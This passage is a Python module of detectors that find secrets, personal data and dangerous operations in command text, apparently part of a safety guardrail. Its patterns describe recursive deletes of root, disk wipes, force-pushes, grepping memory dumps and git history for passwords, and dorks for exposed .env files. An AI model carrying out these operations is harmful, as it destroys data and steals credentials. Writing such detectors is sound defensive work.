"""Compiled detectors for secrets, personal data and dangerous operations.

Every detector returns stable codes and *spans*; callers never put the matched text in a
reason (reasons carry codes, never raw argument text or secrets).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Any, Callable, Sequence

import ahocorasick

__all__ = ["Finding", "find_secrets", "is_placeholder_secret", "find_pii", "find_dangerous", "redact", "SECRET_TOKEN", "find_contact_list", "DANGER_CODES",
           "screen"]

SECRET_TOKEN = "[REDACTED:{kind}]"


@dataclass(frozen=True)
class Finding:
    kind: str      # stable code, e.g. "aws_access_key", "ssn", "recursive_delete_root"
    start: int
    end: int


# Each pattern carries literal triggers (lower case): the regex runs only when one of them
# occurs in the lower-cased text. Substring tests are C-speed; most arguments trip none.
_SECRET_TRIGGERS: dict[str, tuple[str, ...]] = {
    "private_key": ("private key",), "aws_access_key": ("akia", "asia"), "aws_secret_key": ("secret",),
    "github_token": ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"), "stripe_key": ("_live_", "_test_"), "live_api_key": ("_live_",),
    "openai_key": ("sk-",), "slack_token": ("xox",), "slack_webhook": ("hooks.slack",), "google_api_key": ("aiza",),
    "jwt": ("eyj",), "bearer_token": ("bearer",), "url_credentials": ("://",),
    "password_assignment": ("pass", "pwd", "secret", "key", "token"), "npm_token": ("npm_",),
    "password_phrase": ("pass", "pin "), "env_secret": ("secret", "pass", "token", "key"), "login_pair": ("login", "credential", "user"),
    "otp_seed": ("seed", "secret"), "mfa_backup_code": ("backup", "recovery"),
}

_SECRET_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = tuple(
    (kind, re.compile(rx))
    for kind, rx in (
        ("private_key", r"-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----[\s\S]*?(?:-----END (?:[A-Z]+ )?PRIVATE KEY-----|$)"),
        ("aws_access_key", r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
        ("aws_secret_key", r"(?i)aws_?secret_?(?:access_?)?key\W{0,4}[A-Za-z0-9/+]{40}\b"),
        ("github_token", r"\b(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{40,})\b"),
        ("stripe_key", r"\b(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{10,}\b"),
        # the same convention elsewhere (`ak_live_…`, `key_live_…`): a short prefix, `_live_`, a long random tail
        ("live_api_key", r"\b(?!(?:sk|rk|pk)_)[a-z]{2,8}_live_(?=[A-Za-z]*\d)(?=[a-z\d]*[A-Z])[A-Za-z0-9]{16,}\b"),
        ("openai_key", r"\bsk-(?:proj-)?[A-Za-z0-9_-]{20,}\b"),
        ("slack_token", r"\bxox[abposr]-[A-Za-z0-9-]{10,}\b"),
        ("slack_webhook", r"https://hooks\.slack\.com/services/[A-Za-z0-9/]{20,}"),
        ("google_api_key", r"\bAIza[0-9A-Za-z_-]{35}\b"),
        ("jwt", r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\b"),
        ("bearer_token", r"(?i)\bbearer\s+[A-Za-z0-9._~+/=-]{20,}"),
        ("url_credentials", r"\b[a-z][a-z0-9+.-]*://[^\s:/@]+(?:@[^\s:/@]+)?:[^\s@/]{3,}@"),
        ("password_assignment", r"(?i)\b(?:password|passwd|pwd|secret|api_?key|access_?token|auth_?token)\b\s*[:=]\s*['\"]?[^\s'\",;]{6,}"),
        ("npm_token", r"\bnpm_[A-Za-z0-9]{36}\b"),
        ("env_secret", r"(?i)\b[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|TOKEN|API_?KEY|PRIVATE_?KEY)[A-Z0-9_]*\s*[:=]\s*['\"]?(?=[^\s'\",;]*[0-9/+])[^\s'\",;]{12,}"),
        ("password_phrase", r"(?i)\b(?:password|passwd|passcode|pin)\s+(?:is|was|:|=)\s+['\"]?(?=\S*[\d!@#$%^&*?])\S{6,}"
                            # round 18c: the value right after the word (`repl_sync / password Qz7-vR2p-Lm9x works`) when it
                            # looks generated: ten or more characters, an upper-case letter after a lower-case one, a digit and a symbol
                            # (not a capitalised word: `Password Reset-2024`)
                            r"|\b(?:password|passwd|passcode)\s+(?=[^\s'\"]{0,64}\d)(?=(?-i:[^\s'\"]{0,64}[a-z][^\s'\"]{0,64}[A-Z]))(?=[^\s'\"]{0,64}[-_!@#$%^&*?+])"
                            r"[A-Za-z0-9][\w!@#$%^&*?+-]{9,64}(?![\w!@#$%^&*?+-])"),
        ("login_pair", r"(?i)\b(?:login|credentials?|user(?:name)?\s*/\s*pass(?:word)?)\s*[:=]\s*\S+\s*/\s*\S{6,}"),
        ("otp_seed", r"(?i)\b(?:otp|totp|2fa|mfa|token)\s+(?:seed|secret)\W{0,3}[A-Z2-7]{10,}"),
        # (round 19d: a few words may come between, `recovery codes for EPCS: 4821-9932`, and the
        # groups may be of three to five digits, or GitHub's two of five hex characters)
        ("mfa_backup_code", r"(?i)\b(?:backup|recovery)\s+codes?\b[^\n\d]{0,24}?(?:\d{3,5}[- ]?\d{3,5}|[0-9a-f]{5}-[0-9a-f]{5})\b"),
    )
)

_DIGITS = re.compile(r"\d{4}")
_A_DIGIT = re.compile(r"\d")
_SPACED_DIGITS = re.compile(r"\d[ -]\d")
_IBAN_HEAD = re.compile(r"[A-Z]{2}\d{2}")
_SSN = re.compile(r"\b(?!000|666|9\d\d)\d{3}-(?!00)\d{2}-(?!0000)\d{4}\b")
_CARD = re.compile(r"\b(?:\d[ -]?){12,18}\d\b")
_IBAN = re.compile(r"\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){2,7}(?: ?[A-Z0-9]{1,4})?\b")
# the same numbers in groups cut by another separator, one kept throughout: a card as
# `4111.1111.1111.1111` or `4111/1111/…` (Amex 4-6-5 too), an SSN as `123.45.6789` or
# `123 45 6789`, an IBAN as `DE89-3704-0044-…` (the checksums still decide)
_CARD_GROUPED = re.compile(r"(?<![\d./-])\d{4}([./])(?:\d{4}\1\d{4}\1\d{1,7}|\d{6}\1\d{5})(?![\d./-]?\d)")
_SSN_GROUPED = re.compile(r"(?<![\d./-])(?<!\d )(?!000|666|9\d\d)\d{3}([. ])(?!00)\d{2}\1(?!0000)\d{4}(?![\d./-]?\d)")
_IBAN_GROUPED = re.compile(r"\b[A-Z]{2}\d{2}([-./])[A-Z0-9]{4}(?:\1[A-Z0-9]{4}){1,6}(?:\1[A-Z0-9]{1,4})?\b")
_PASSPORT = re.compile(r"(?i)\bpassport(?:\s*(?:no|number|#))?\s*[:#]?\s*[A-Z0-9]{8,9}\b")
_PHONE = re.compile(r"(?:(?<![\w+])\+\d{1,3}[ .-]?\(?\d{1,4}\)?(?:[ .-]?\d{2,4}){2,4}(?!\w)|\(\d{3}\)\s?\d{3}-\d{4}\b|\b\d{3}-\d{3}-\d{4}\b)")
# the local part takes any word character (RFC 6531: `zoë@…`, `jürgen.müller@…`), as `actions.EMAIL_RX`
_EMAIL = re.compile(r"\b[\w.%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}\b")
_NATIONAL_ID = re.compile(
    r"(?i)\b(?:tax\s*(?:id|number)|national\s*(?:id|insurance)(?:\s*(?:no|number))?|cpr|nino?|sin|bsn|nif|nie|pesel|"
    r"aadhaar|personnummer|steuer-?id|codice\s+fiscale|insee)\b\W{0,12}(?:[A-Z]{2,3}[- ]?)?(?:CPR\s*)?\d[\d -]{5,14}\d")
# one of these is in every match of _NATIONAL_ID (lower-cased)
_NATIONAL_ID_WORDS = ("tax", "national", "cpr", "nin", "sin", "bsn", "nif", "nie", "pesel", "aadhaar", "personnummer",
                      "steuer", "codice", "insee")
_DOB = re.compile(r"(?i)\b(?:dob|date of birth|born)\s*[:=]?\s*\d{4}-\d{2}-\d{2}\b")


def _luhn(digits: str) -> bool:
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = ord(ch) - 48
        if i % 2:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return total % 10 == 0


def _iban_ok(text: str) -> bool:
    s = text.replace(" ", "")
    if not 15 <= len(s) <= 34:
        return False
    moved = s[4:] + s[:4]
    num = "".join(str(int(c, 36)) for c in moved)
    return int(num) % 97 == 1


def find_secrets(text: str) -> list[Finding]:
    """Credentials and keys in `text` (API keys, tokens, private keys, passwords)."""
    out: list[Finding] = []
    kinds = _SECRET_TRIGGERED(text)
    if not kinds:
        return out
    for kind, rx in _SECRET_PATTERNS:
        if kind not in kinds:
            continue
        for m in rx.finditer(text):
            out.append(Finding(kind, m.start(), m.end()))
    return out


# A credential-shaped value that is a stand-in, as in an `.env.example` or a docs page:
# `sk_test_placeholder`, `API_KEY=your-api-key-here`, `password: changeme`, `${DB_PASSWORD}`.
# (Not "example": key-shaped values such as AKIAIOSFODNN7EXAMPLE stay secrets, conservatively.)
_PLACEHOLDER = re.compile(
    r"(?i)placeholder|change[_-]?me|replace[_-]?me|dummy|redacted|not[_-]?a[_-]?real|\byour[_-]|[_-]your[_-]|"
    r"x{4,}|\*{4,}|<[^<>]*>|\$\{|\{\{|(?-i:\$[A-Z_]{3,})\b")
# A credential the code reads from where it is kept rather than holds: `SECRET = os.environ[...]`,
# `api_key = os.getenv(...)`, `token: process.env.API_TOKEN`, `ENV.fetch(...)`. The assignment
# names the secret; its value is not in the text (a literal beside it is still found on its own).
_SECRET_REFERENCE = re.compile(
    r"(?i)[:=]\s*['\"]?(?:os\.environ\b|os\.getenv\(|getenv\(|process\.env\b|system\.getenv\(|deno\.env\b|"
    r"env\[|env\.fetch\(|secrets?\.get\(|vault\.read\()")
# The same for a value that is another name in the code: `stripe.api_key = Settings.stripe_key`,
# `token: config.auth.token`, `password = self.db_password`. An unquoted chain of two or more
# identifiers holds no credential; a segment with a run of digits or a JWT head (`eyJ`) may
# be key material split on dots, so it stays a finding.
_NAME_CHAIN = re.compile(r"[A-Za-z_][A-Za-z_]*[0-9]?[A-Za-z_]*(?:\.[A-Za-z_][A-Za-z_]*[0-9]?[A-Za-z_]*)+(?:\(\)?)?")
# Round 19a: the same for a value that is a call in the code: `token_hash = Column(String(64),
# primary_key=True)` (a model field), `api_key = Field(default_factory…)`. Calls nested two
# deep, a dotted callee, or a call of a name hold no credential; a lone call of a number
# (`Welcome(12345)`) may be a password with brackets in it, so it stays a finding.
_CALL_VALUE = re.compile(r"((?:_N(?:\._N)*\()+)(_N(?:\._N)*|\d{1,5})?".replace("_N", r"[A-Za-z_][A-Za-z_]*[0-9]?[A-Za-z_]*"))
# An AWS resource name (`arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-AbC12`)
# names where a secret is kept; the `secret:` in it is the resource type, not a value.
_ARN_HEAD = re.compile(r"arn:aws(?:-[a-z]+)*:")
# A URL credential for a database on this machine whose password is the user name or a default.
_LOCAL_URL_CREDENTIAL = re.compile(
    r"(?i)://([^\s:/@]+):([^\s@/]+)@(?:localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0)(?=[:/\s]|$)")
_DEFAULT_PASSWORDS = frozenset({"password", "pass", "secret", "postgres", "root", "admin", "test", "dev", "changeme"})


# Round 20g: a key-shaped value that grants no live access by its issuer's own convention: a
# vendor's test-mode key (`sk_test_…`, `rk_test_…`: the test environment, no real money or data),
# an AWS documentation key (`AKIAIOSFODNN7EXAMPLE`, `…EXAMPLEKEY`), or a value with a run of eight
# or more of one character (`xoxb-000000000000-test`), which no random key has. Live keys,
# random-looking values without these marks, and passwords (people choose `00000000`) stay
# credentials.
_PASSWORD_KINDS = frozenset({"password_assignment", "password_phrase", "env_secret", "login_pair", "url_credentials", "otp_seed", "mfa_backup_code"})
_NOT_LIVE = re.compile(r"\b[a-z]{2,8}_test_[A-Za-z0-9]{10,}\b|EXAMPLE(?:KEY)?['\"]?$")
_ONE_CHAR_RUN = re.compile(r"(.)\1{7,}")


def is_placeholder_secret(text: str, finding: Finding) -> bool:
    """Whether a secret finding in `text` is a stand-in rather than a credential (a placeholder
    value, or a default password for a database on localhost)."""
    value = text[finding.start:finding.end]
    if finding.kind == "url_credentials":
        m = _LOCAL_URL_CREDENTIAL.search(text, max(0, finding.start - 1), min(len(text), finding.end + 64))
        if m is not None:
            user, pw = m.group(1).lower(), m.group(2).lower()
            return pw == user or pw in _DEFAULT_PASSWORDS or _PLACEHOLDER.search(pw) is not None
        return False
    if finding.kind == "private_key":
        return False
    if _NOT_LIVE.search(value) is not None or finding.kind not in _PASSWORD_KINDS and _ONE_CHAR_RUN.search(value) is not None:
        return True
    if finding.kind in ("password_assignment", "env_secret"):
        if _SECRET_REFERENCE.search(value):
            return True
        if _names_value(value) or _inside_arn(text, finding.start):
            return True
    return _PLACEHOLDER.search(value) is not None


def _names_value(value: str) -> bool:
    """The assigned value of a `key = value` finding is an unquoted chain of names, or a call
    in the code (round 19a)."""
    i = value.find("=")
    j = value.find(":")
    cut = min(k for k in (i, j) if k >= 0) if i >= 0 or j >= 0 else -1
    if cut < 0:
        return False
    rhs = value[cut + 1:].strip().rstrip(")]}")   # the call or literal the assignment sits in
    if not rhs or rhs[0] in "'\"" or "eyJ" in rhs:
        return False
    if _NAME_CHAIN.fullmatch(rhs) is not None:
        return True
    m = _CALL_VALUE.fullmatch(rhs)
    return m is not None and (m.group(1).count("(") >= 2 or "." in m.group(1) or not (m.group(2) or "").isdigit())


def _inside_arn(text: str, start: int) -> bool:
    """The finding starts inside an AWS resource name (the token it is in opens with `arn:aws`)."""
    lo = max(0, start - 96)
    head = text[lo:start]
    cut = max(head.rfind(c) for c in " \t\n\"'`,([{")
    return _ARN_HEAD.match(head[cut + 1:]) is not None


def find_pii(text: str) -> list[Finding]:
    """Regulated personal data: SSNs, payment card numbers (Luhn), IBANs (mod 97), passports, birth dates."""
    out: list[Finding] = []
    # A pattern runs only on text holding what each of its matches must contain; the words of
    # the case-insensitive ones are looked for in ASCII text only (Unicode case folding lets
    # other letters match them: `ſ` is an `s`). Every pattern but the passport's needs a digit.
    low = text.lower() if text.isascii() else None
    if _A_DIGIT.search(text) is None:
        if low is None or "passport" in low:
            out.extend(Finding("passport_number", m.start(), m.end()) for m in _PASSPORT.finditer(text))
        return out
    run = _DIGITS.search(text) is not None          # four digits in a row
    if run and "-" in text:
        for m in _SSN.finditer(text):
            out.append(Finding("ssn", m.start(), m.end()))
    if run and ("." in text or "/" in text or " " in text):
        for m in _SSN_GROUPED.finditer(text):
            out.append(Finding("ssn", m.start(), m.end()))
        for m in _CARD_GROUPED.finditer(text):
            if _luhn(re.sub(r"\D", "", m.group())):
                out.append(Finding("payment_card", m.start(), m.end()))
    if run or _SPACED_DIGITS.search(text):          # 13+ digits at most one space or hyphen apart
        for m in _CARD.finditer(text):
            digits = re.sub(r"\D", "", m.group())
            if 13 <= len(digits) <= 19 and _luhn(digits):
                out.append(Finding("payment_card", m.start(), m.end()))
    if not text.islower():
        for m in _IBAN.finditer(text):
            if _iban_ok(m.group()):
                out.append(Finding("iban", m.start(), m.end()))
        if "-" in text or "." in text or "/" in text:
            for m in _IBAN_GROUPED.finditer(text):
                if _iban_ok(m.group().replace(m.group(1), "")):
                    out.append(Finding("iban", m.start(), m.end()))
        if out:
            # the digits after an IBAN's country and check digits may pass Luhn by chance
            # (`DE62-3704-0044-0532-0130-01`): a number inside an IBAN is that IBAN, not a card
            ibans = [(x.start, x.end) for x in out if x.kind == "iban"]
            if ibans:
                out = [x for x in out if x.kind != "payment_card" or not any(a <= x.start and x.end <= b for a, b in ibans)]
    if low is None or "passport" in low:
        for m in _PASSPORT.finditer(text):
            out.append(Finding("passport_number", m.start(), m.end()))
    if run and (low is None or "dob" in low or "birth" in low or "born" in low):
        for m in _DOB.finditer(text):
            out.append(Finding("date_of_birth", m.start(), m.end()))
    if low is None or any(w in low for w in _NATIONAL_ID_WORDS):
        for m in _NATIONAL_ID.finditer(text):
            out.append(Finding("national_id", m.start(), m.end()))
    if "+" in text or "(" in text or "-" in text:
        for m in _PHONE.finditer(text):
            if len(re.sub(r"\D", "", m.group())) >= 10:
                out.append(Finding("phone_number", m.start(), m.end()))
    return out


def _has_id_word(low: str) -> bool:
    return any(w in low for w in _NATIONAL_ID_WORDS)


def screen(strings: Sequence[str]) -> tuple[bool, bool]:
    """(a secret may be in `strings`, personal data or a contact list may be): the
    preconditions the detectors check first, tested once over all the strings. Conservative:
    False means the detector would find nothing; True only means "look string by string"."""
    joined = strings[0] if len(strings) == 1 else "\n".join(strings)
    secrets = _SECRET_TRIGGERED.any(joined)
    # what each pattern's matches must contain (see find_pii): four digits in a row, a `+`, two
    # digits a space or hyphen apart (a spaced card or id), two capitals and two digits (an
    # IBAN's head), or a word of the passport and national-id patterns (non-ASCII text: always)
    pii = ("+" in joined or _DIGITS.search(joined) is not None or any(s.count("@") >= 2 for s in strings)
           or (_A_DIGIT.search(joined) is not None
               and (_SPACED_DIGITS.search(joined) is not None or _IBAN_HEAD.search(joined) is not None
                    or not joined.isascii() or _has_id_word(joined.lower())))
           or (not joined.isascii() or "passport" in joined.lower()))
    return secrets, pii


def find_contact_list(text: str, minimum: int = 2, exclude: Callable[[str], bool] | None = None) -> list[Finding]:
    """Several distinct e-mail addresses of other people inside free text: a contact list.

    `exclude(address)` drops addresses that do not count (the call's own recipients,
    internal colleagues)."""
    if text.count("@") < minimum:
        return []
    found = [m for m in _EMAIL.finditer(text) if exclude is None or not exclude(m.group().lower())]
    if len({m.group().lower() for m in found}) < minimum:
        return []
    return [Finding("contact_list", m.start(), m.end()) for m in found]


def redact(text: str, findings: list[Finding]) -> str:
    """Replace each finding's span with a typed marker; overlapping spans merge."""
    if not findings:
        return text
    spans = sorted((f.start, f.end, f.kind) for f in findings)
    out: list[str] = []
    pos = 0
    for start, end, kind in spans:
        if end <= pos:
            continue
        start = max(start, pos)
        out.append(text[pos:start])
        out.append(SECRET_TOKEN.format(kind=kind))
        pos = end
    out.append(text[pos:])
    return "".join(out)


# A comma-separated list of scratch or temporary tables (a schema named scratch/tmp/temp/sandbox,
# or a tmp_/temp_ name), up to the end of the statement.
_SCRATCH_TABLE = r"(?:\"?(?:scratch|tmp|temp|sandbox)\w*\"?\.\"?\w+\"?|\"?(?:tmp|temp)_\w+\"?)"
_SCRATCH_LIST = _SCRATCH_TABLE + r"(?:\s*,\s*" + _SCRATCH_TABLE + r")*(?:\s+(?:cascade|restrict))?\s*(?:;|\n|$|\)|--)"


# A condition that is always true, up to the end of the statement or the next connective.
_TAUTOLOGY = (r"\(?\s*(?:1\s*=\s*1|true|1|'(\w*)'\s*=\s*'\1'|(\d+)\s*=\s*\2|([a-z_]\w*)\s*=\s*\3|"
              r"\d+\s*>\s*0|[a-z_]\w*\s+is\s+not\s+null\s+or\s+[a-z_]\w*\s+is\s+null)\s*\)?\s*(?:;|$|--|\)|\bor\b|\n)")
# A path or store name that holds backups (`/srv/backups`, `acme-prod-db-backups`, `nightly-backup/`).
_BACKUP_NAME = r"[\w./:@-]*back-?ups?\b[\w./*-]*"

# Dangerous operations: (code, message, regex). Matched against command-like argument text
# (shell, SQL, cloud CLI, config payloads). They are deliberately specific: `rm -rf build/`
# in a project is ordinary work; `rm -rf /` or `rm -rf ~` is not.
_PUSH = re.compile(r"(?i)\bgit\s+push\b")
_FORCE = re.compile(r"(?i)\s--force\b|\s-f\b")
_LEASE = re.compile(r"(?i)--force-with-lease")
_PROTECTED_BRANCH = re.compile(r"(?i)\b(?:main|master|release|production|prod)\b")
_COMMAND_BREAK = re.compile(r"[;|&]")


class _ForcePush:
    r"""`search(text)` for a `git push` that, before the next `;`, `|` or `&`, forces (`--force`,
    `-f`), names a protected branch and has no `--force-with-lease`: what the regex
    `git\s+push\b(?=[^;|&]*force)(?![^;|&]*--force-with-lease)[^;|&]*\b(main|…)\b` says, whose
    three scans to the end of the command for every `git push` take quadratic time on text that
    repeats it. Here each command is cut at its pushes once and read from its end: a push's
    reach is its own piece and every piece after it."""

    pattern = "force_push_protected"

    def search(self, text: str) -> bool:
        for command in _COMMAND_BREAK.split(text):
            starts = [m.start() for m in _PUSH.finditer(command)]
            if not starts:
                continue
            force = lease = branch = False
            ends = starts[1:] + [len(command)]
            for start, end in zip(reversed(starts), reversed(ends)):
                piece = command[start:end]
                force = force or _FORCE.search(piece) is not None
                lease = lease or _LEASE.search(piece) is not None
                branch = branch or _PROTECTED_BRANCH.search(piece) is not None
                if force and branch and not lease:
                    return True
        return False


# round 19d: the select lists of a SQL text, each cut at its FROM (or the next SELECT or `;`)
# in one pass, and a column in one whose name ends in password, secret, api key, private key
# or token (or a plain/raw form of one), read as itself: `SELECT provider, api_key,
# webhook_secret FROM …`. Hashes, prefixes, last digits, timestamps and flags (`password_hash`,
# `token_prefix`, `has_password`, `count(api_key)`) say nothing of the value.
_SQL_CLAUSE_CUT = re.compile(r"(?i)\b(?:select|from)\b|;")
_SECRET_COLUMN = re.compile(
    r"(?i)(?<![\w.(\"'])(?:\w{1,64}\.)?(?!(?:has|is|num|count|n|no|uses?|requires?)_)"
    r"(?:\w{1,64}_)?(?:password|passwd|secret|api_?key|private_?key|(?:access|refresh|auth|session|bearer|api|plain)_?token|token_?(?:plain|clear|raw|value)|recovery_?codes?|totp_?seed|otp_?seed"
    # round 20e: stored connection credentials: a foreign server's user mapping (`umoptions` holds
    # the remote user and password), a subscription's or a link's connection string, a DSN
    r"|umoptions|\w{0,16}conninfo|connection_?string|dsn|database_?url|db_?url)"
    r"(?:_(?:plain|clear|raw|value|text))?\s*(?:,|$|as\s+\w{1,64}\s*(?:,|$))")


class _SecretColumns:
    """`search(text)`: a select list that names a credential column (above)."""

    pattern = "sql_secret_columns"

    def search(self, text: str) -> bool:
        if "select" not in text.lower():
            return False
        start = None
        for m in _SQL_CLAUSE_CUT.finditer(text):
            if start is not None and _SECRET_COLUMN.search(text[start:m.start()].rstrip()):
                return True
            start = m.end() if m.group(0).lower() == "select" else None
        return False


# round 19d: a memory or crash dump searched for secrets: `strings core.1234 | grep -i password`,
# `grep -a token heap.hprof | …`. A crash is read from its backtrace; what a dump held in memory
# (passwords, tokens, keys) is harvested by filtering it for credential words. Each command of
# the text is read once.
_DUMP_READ = re.compile(
    r"(?i)(?:\bstrings\b|\bgrep\s+(?:-\w+\s+)*-\w*a)[^|;&\n]{0,200}?(?<![\w-])(?:core(?:dump)?(?:[._-][\w.-]{0,64})?|[\w.-]{0,128}\.(?:core|dmp|mdmp|hprof|heapdump|heapsnapshot|crash|vmem)|/proc/[^/\s]{1,32}/mem)(?![\w-])")
_SECRET_FILTER = re.compile(r"(?i)\|\s*(?:e|f)?grep\b[^;&\n|]{0,160}?\b(?:password|passwd|passw|secret|token|bearer|api_?key|apikey|private|akia|authorization)")
_COMMAND_CUT = re.compile(r"[;&\n]")


class _DumpHarvest:
    """`search(text)`: a dump read by `strings` or `grep -a` and piped through a filter for
    credential words (above)."""

    pattern = "dump_secret_harvest"

    def search(self, text: str) -> bool:
        for command in _COMMAND_CUT.split(text):
            m = _DUMP_READ.search(command)
            if m is not None and _SECRET_FILTER.search(command, m.end()):
                return True
        return False


# round 20e: secrets harvested through a search rather than read from their store: a search
# (grep, rg, a code or log search, a LogQL line filter, a web search) whose pattern is the shape
# of a secret's value (`sk_live_…`, `AKIA…`, `ghp_…`, a private-key header, `Authorization:
# Bearer`, `api_key=`), a repository's patch history searched for a credential's name (`git log
# -p -S AWS_SECRET…`, `git log -p | grep password`), or a search-engine query for exposed
# configuration files that names a credential (`filetype:env "DB_PASSWORD"`). A search that keeps
# only file names, counts or a yes/no (`grep -l`/`-c`/`-q`, `--files-with-matches`, `--count`,
# `wc -l`), or a scanner that redacts (`--redact`), prints no value. Each command is read once.
# A vendor's test-mode key prefix (`sk_test_`) is not a secret's shape here: by round 20g's reading
# such a key grants no live access, and replacing test keys in fixtures searches for them.
_SEARCH_VERB = re.compile(r"(?i)\b(?:e?grep|rg|ag|ack|git\s+grep|findstr|select-string|search|lookup|find)\b|\|\s*[=~]")
_SECRET_VALUE_SHAPE = re.compile(
    r"(?i)(?:\b[sr]k_live_|\bAKIA|\bASIA[A-Z0-9]|\bgh[pousr]_|\bgithub_pat_|\bglpat-|\bxox[abprs]-|\bwhsec_|\bnpm_[A-Za-z0-9]"
    r"|BEGIN[\s\w]{0,20}PRIVATE\s+KEY|Authorization:\s*Bearer|\bBearer\s|\bset-cookie\b"
    r"|\b(?:api[_-]?key|apikey|access[_-]?token|auth[_-]?token|client[_-]?secret|secret[_-]?key|password|passwd|pwd|token|secret)\s*(?:\\?[\"'])?\s*[=:])")
_PATCH_HISTORY = re.compile(r"(?i)\bgit\s+(?:log|show|whatchanged)\b")
_PATCH_FLAG = re.compile(r"(?i)\s(?:-p|--patch)\b|\s-[SG]\s*['\"]?\S")
_CREDENTIAL_WORD = re.compile(r"(?i)(?:secret|passw|passwd|token|api_?key|apikey|private_?key|credential|\bAKIA)")
_PICKAXE_CREDENTIAL = re.compile(r"(?i)\s-[SG]\s*['\"]?[^\s'\"]*(?:secret|passw|token|api_?key|apikey|private_?key|credential|AKIA)")
_GREP_CREDENTIAL = re.compile(r"(?i)\|\s*(?:e|f)?grep\b[^|;&\n]{0,200}?(?:secret|passw|token|api_?key|apikey|private|credential|AKIA)")
_CONFIG_DORK = re.compile(r"(?i)\b(?:filetype|ext|inurl):\s*\.?(?:env|ini|cfg|conf|config|ya?ml|json|properties|pem|key|sql|bak|log|npmrc|pgpass|netrc|git-credentials)\b")
_NAMES_ONLY = re.compile(r"(?i)(?:\b(?:e?grep|rg|ag|ack|git\s+grep)\s+(?:-\S{1,40}\s+){0,12}-[a-zA-Z]{0,12}[lLcq][a-zA-Z]{0,12}\b|--files-with(?:out)?-match(?:es)?\b|--count\b|--quiet\b|\|\s*wc\s+-l\b|--redact\b)")


class _SecretSearch:
    """`search(text)`: a search for secret values or a credential's patch history (above)."""

    pattern = "secret_search_harvest"

    def search(self, text: str) -> bool:
        for command in _COMMAND_CUT.split(text):
            if _NAMES_ONLY.search(command):
                continue
            verb = _SEARCH_VERB.search(command)
            if verb is not None and _SECRET_VALUE_SHAPE.search(command, verb.end()):
                return True
            history = _PATCH_HISTORY.search(command)
            if history is not None:
                # (the first history command of a piece; its flags and filters are read once from there)
                patch = _PATCH_FLAG.search(command, history.end())
                history = history if patch is not None and "|" not in command[history.end():patch.start()] else None
            if history is not None and (_PICKAXE_CREDENTIAL.search(command, history.end())
                                        or _GREP_CREDENTIAL.search(command, history.end())):
                return True
            if _CONFIG_DORK.search(command) and _CREDENTIAL_WORD.search(command):
                return True
        return False


_HASH_CALL = r"\b(?:sha256|sha224|sha512|sha1|md5|digest|hashtext|crc32)\s*\("
_CLAUSE_WORD = r"\b(?:on|where|and)\b"
# a clause (ON / WHERE / AND) that calls a hash function before the next clause word or `;`
_HASHED_CLAUSE = re.compile(r"(?i)" + _CLAUSE_WORD + r"(?:(?!" + _CLAUSE_WORD + r")[^;])*?" + _HASH_CALL)
_MASKED_COLUMN = re.compile(r"(?i)\bmasked\.\w+")
_CLAUSE_RX = re.compile(r"(?i)" + _CLAUSE_WORD)
_HASH_RX = re.compile(r"(?i)" + _HASH_CALL)


class _Reidentification:
    """`search(text)` for "a masked view's column, then a clause that hashes a value" (anywhere
    after it) or "a clause word, a hash call after it and a masked column after that, in one
    `;`-separated statement": the regex that said so directly,
    `masked\.\w+.*(on|where|and)[^;]*?HASH\(|(on|where|and)[^;]*?HASH\([^;]*masked\.\w+`,
    backtracks over every clause word for every start (seconds on 40 KB of `masked. where`).
    Here each part is one linear scan: the earliest masked column leaves the most room after it,
    and within a statement the earliest clause word and the earliest hash call after it do."""

    pattern = "reidentification"

    def search(self, text: str) -> bool:
        first = _MASKED_COLUMN.search(text)
        if first is None:
            return False
        if _HASHED_CLAUSE.search(text, first.end()):
            return True
        for statement in text.split(";"):
            if "masked." not in statement.lower():
                continue
            clause = _CLAUSE_RX.search(statement)
            if clause is None:
                continue
            hashed = _HASH_RX.search(statement, clause.end())
            if hashed is not None and _MASKED_COLUMN.search(statement, hashed.end()):
                return True
        return False


# The logs whose entries are evidence rather than disk usage: the audit trail, auth and security
# logs, the system log and the login records.
_SECURITY_LOG = r"(?:audit/\S*|\S*(?:audit|secure|auth|syslog|messages|wtmp|btmp|lastlog)\S*)"

_DANGEROUS: tuple[tuple[str, str, Any], ...] = tuple(
    (code, msg, re.compile(rx) if isinstance(rx, str) else rx)
    for code, msg, rx in (
        ("recursive_delete_root", "recursive delete of a root, home or system directory",
         r"(?i)\brm\s+(?:-[a-z]*\s+)*-[a-z]*(?:r[a-z]*f|f[a-z]*r)[a-z]*\s+(?:-[a-z-]+\s+)*(?:--no-preserve-root\s+)?(?:/|/\*|~/?|\$HOME/?|/(?:etc|usr|var|bin|boot|lib|opt|home|root|srv|data)(?:/\*?)?|\*|\.\.?/?|(?:~|\$HOME)/\.(?:ssh|gnupg|aws|kube|docker|config)/?)(?:\s|$|;|&|\|)"),
        ("recursive_delete_root", "recursive delete with --no-preserve-root", r"(?i)--no-preserve-root"),
        ("find_delete_root", "find -delete over a root or home directory",
         r"(?i)\bfind\s+(?:/|~/?|\$HOME/?|/(?:etc|usr|var|home|root|opt|srv|boot|lib|bin|data)/?)(?:\s|$).*-delete\b"),
        ("disk_wipe", "overwrites or formats a disk", r"(?i)(?:\bmkfs(?:\.\w+)?\s+/dev/|\bdd\s+(?:(?!\bdd\s)[^|;])*of=/dev/(?:sd|nvme|xvd|vd|hd)|\bshred\s+(?:(?!\bshred\s)[^|;])*/dev/|>\s*/dev/sd[a-z])"),
        # files overwritten so that no undelete, snapshot of the free space or forensic tool gets them back
        ("disk_wipe", "overwrites files beyond recovery (shred)", r"(?i)\bshred\s+(?:-\S+\s+)*[^\s;|&<>-]"),
